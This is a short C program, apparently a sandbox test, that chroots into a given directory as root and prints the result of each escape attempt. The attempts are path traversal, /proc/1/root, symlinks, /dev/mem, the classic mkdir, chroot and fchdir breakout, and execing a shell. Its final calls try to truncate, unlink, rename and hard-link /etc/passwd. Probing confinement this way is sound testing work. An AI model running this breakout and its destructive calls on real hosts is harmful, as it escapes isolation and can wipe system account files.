// Tries to get out of the tree that it was given, as root in it: prints what each try gives.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define T(call) do { errno = 0; long r_ = (long)(call); printf("%s = %s\n", #call, r_ < 0 ? strerrorname_np(errno) : "ok"); fflush(stdout); } while (0)

int main(int argc, char **argv) {
  // A root of its own, wherever it runs.
  if (chdir(argv[1]) || chroot(".")) return 1;
  chdir("/");
  char b[4096];
  T(open("/etc/passwd", O_RDONLY)); T(open("../../../../../../etc/passwd", O_RDONLY)); T(open("/proc/1/root/etc/passwd", O_RDONLY)); T(open("/proc/self/exe", O_RDONLY)); T(open("/proc/self/fd/0", O_RDONLY)); T(open("/dev/mem", O_RDONLY)); T(open("/dev/kmsg", O_RDONLY)); T(open("/sys/kernel", O_RDONLY));
  symlink("/etc/passwd", "link"); T(open("link", O_RDONLY)); symlink("../../../../etc", "up"); T(open("up/passwd", O_RDONLY)); T(readlink("/proc/self/cwd", b, 100));
  mkdir("d", 0755); int out = open(".", O_RDONLY); T(chroot("d")); T(fchdir(out)); T(open("../../../etc/passwd", O_RDONLY)); T(chroot(".")); T(open("/etc/passwd", O_RDONLY)); T(open("../etc/passwd", O_RDONLY));
  T(openat(99, "x", O_RDONLY)); T(openat(out, "../../etc/passwd", O_RDONLY));
  T(execl("/bin/sh", "sh", "-c", "true", NULL)); T(execl("../../../bin/sh", "sh", NULL)); T(syscall(SYS_execveat, out, "../../bin/sh", 0, 0, 0));
  T(truncate("/etc/passwd", 0)); T(unlink("../../../../etc/passwd")); T(rename("/etc/passwd", "p")); T(link("/etc/passwd", "p"));
  return 0;
}
